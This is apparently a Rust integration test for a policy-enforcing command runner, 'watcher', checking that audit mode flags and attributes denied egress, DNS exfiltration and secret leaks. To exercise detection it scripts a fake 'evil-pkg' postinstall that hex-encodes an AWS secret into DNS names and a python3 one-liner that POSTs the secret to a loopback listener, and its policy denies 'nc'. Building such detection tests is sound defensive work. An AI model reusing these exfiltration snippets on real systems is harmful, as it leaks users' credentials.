//! `watcher run --policy` in audit mode: every channel is flagged, named, attributed, and let
//! through (the servers see the traffic); the exit code is the command's.
use std::process::{Command, Stdio};

use serde_json::Value;
use watcher_tests::{DnsServer, Listener, netprobe_bin, read_jsonl, root_or_skip, watcher_bin};

fn alerts(events: &[Value]) -> Vec<&Value> {
    events.iter().filter(|e| e["kind"] == "alert").collect()
}

#[test]
fn audit_mode_flags_each_channel_and_lets_it_through() {
    if !root_or_skip() {
        return;
    }
    let dns_ip = "127.53.0.21";
    let dns =
        DnsServer::start(dns_ip.parse().unwrap(), vec![("ok.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()])])
            .unwrap();
    let allowed = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let forbidden = Listener::start("[::1]:0".parse().unwrap()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("p.yaml");
    std::fs::write(
        &policy,
        format!(
            "version: 1\npipeline: audit-test\nmode: audit\negress:\n  loopback: false\n  allow:\n    - host: ok.watcher.test\n      ports: [{}]\ndns:\n  resolvers: [{dns_ip}]\nexec:\n  deny: [nc]\n  install_scripts:\n    shells: deny\nsecrets:\n  env: [\"AWS_*\"]\n",
            allowed.addr().port()
        ),
    )
    .unwrap();
    let secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
    let leak = format!("{}.{}.exfil.watcher.test", &hex[..40], &hex[40..]);
    let p = netprobe_bin().display().to_string();
    let log = dir.path().join("e.jsonl");
    let script = format!(
        "{p} dns-sendto {dns_ip} ok.watcher.test A tcp 127.0.0.1:{ap} tcp {fa} dns-sendto {dns_ip} {leak} A; \
         python3 -c \"import os,socket; s=socket.create_connection(('::1', {fp})); s.sendall(b'POST /c HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nk=' + os.environ['AWS_SECRET_ACCESS_KEY'].encode()); s.close()\"; \
         sh -c 'exit 0'; exit 3",
        ap = allowed.addr().port(),
        fa = forbidden.addr(),
        fp = forbidden.addr().port(),
    );
    let out = Command::new(watcher_bin())
        .args(["run", "--quiet", "--policy"])
        .arg(&policy)
        .arg("--log")
        .arg(&log)
        .args(["--", "sh", "-c", &script])
        .env("AWS_SECRET_ACCESS_KEY", secret)
        .env("npm_lifecycle_event", "postinstall")
        .env("npm_package_name", "evil-pkg")
        .env("npm_package_version", "6.6.6")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "audit mode returns the command's code: {stderr}");
    let events = read_jsonl(&log);
    let al = alerts(&events);
    let rules: Vec<&str> = al.iter().map(|a| a["rule"].as_str().unwrap()).collect();
    // Allowed traffic raises nothing; forbidden traffic reached its servers (audit).
    assert!(!rules.is_empty(), "{stderr}");
    assert_eq!(allowed.connections(), 1);
    assert_eq!(forbidden.connections(), 2, "audit mode lets it through");
    assert!(forbidden.payloads().iter().any(|p| p.windows(secret.len()).any(|w| w == secret.as_bytes())));
    assert!(dns.queries().iter().any(|q| q.name.starts_with(&hex[..40])), "audit mode lets the query out");
    let find =
        |rule: &str| al.iter().find(|a| a["rule"] == rule).unwrap_or_else(|| panic!("no {rule} alert in {al:#?}"));
    let egress = find("egress-denied");
    assert!(egress["message"].as_str().unwrap().contains(&forbidden.addr().port().to_string()));
    assert_eq!(egress["action"], "flag");
    let dnsd = find("dns-denied");
    assert!(dnsd["message"].as_str().unwrap().contains("exfil.watcher.test"));
    let sec = find("secret-exfil");
    assert_eq!(sec["severity"], "critical");
    assert!(sec["message"].as_str().unwrap().contains("AWS_SECRET_ACCESS_KEY"));
    // ... in the DNS name and in the bytes sent over TCP.
    let secret_alerts: Vec<&str> =
        al.iter().filter(|a| a["rule"] == "secret-exfil").map(|a| a["message"].as_str().unwrap()).collect();
    assert!(secret_alerts.iter().any(|m| m.contains("DNS query name")), "{secret_alerts:?}");
    assert!(secret_alerts.iter().any(|m| m.contains("data sent to ::1")), "{secret_alerts:?}");
    let shell = find("shell-from-install-script");
    assert_eq!(shell["package"], "npm:evil-pkg@6.6.6 (postinstall)");
    assert_eq!(egress["package"], "npm:evil-pkg@6.6.6 (postinstall)");
    // No alert for what the policy allows.
    assert!(!al.iter().any(|a| a["message"].as_str().unwrap().contains("ok.watcher.test")), "{al:#?}");
    assert_eq!(rules.iter().filter(|r| **r == "egress-denied").count(), 2, "{al:#?}");
    // The value itself is written nowhere.
    let raw = std::fs::read_to_string(&log).unwrap();
    assert!(!raw.contains(secret) && !stderr.contains(secret));
    // Alerts are shown on stderr even with --quiet.
    assert!(stderr.contains("secret-exfil"), "{stderr}");
}

#[test]
fn invalid_policy_refuses_to_start_with_a_located_error() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("bad.yaml");
    std::fs::write(&policy, "version: 1\npipeline: x\negress:\n  allow:\n    - hots: a.test\n").unwrap();
    let out = Command::new(watcher_bin()).args(["run", "--policy"]).arg(&policy).args(["--", "true"]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(err.contains(&format!("{}:5:7:", policy.display())), "{err}");
    assert!(err.contains("hots"), "{err}");
    let out = Command::new(watcher_bin()).args(["policy", "check"]).arg(&policy).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains(":5:7:"));
    let good = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies/npm.yaml");
    let out = Command::new(watcher_bin()).args(["policy", "check"]).arg(&good).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
}
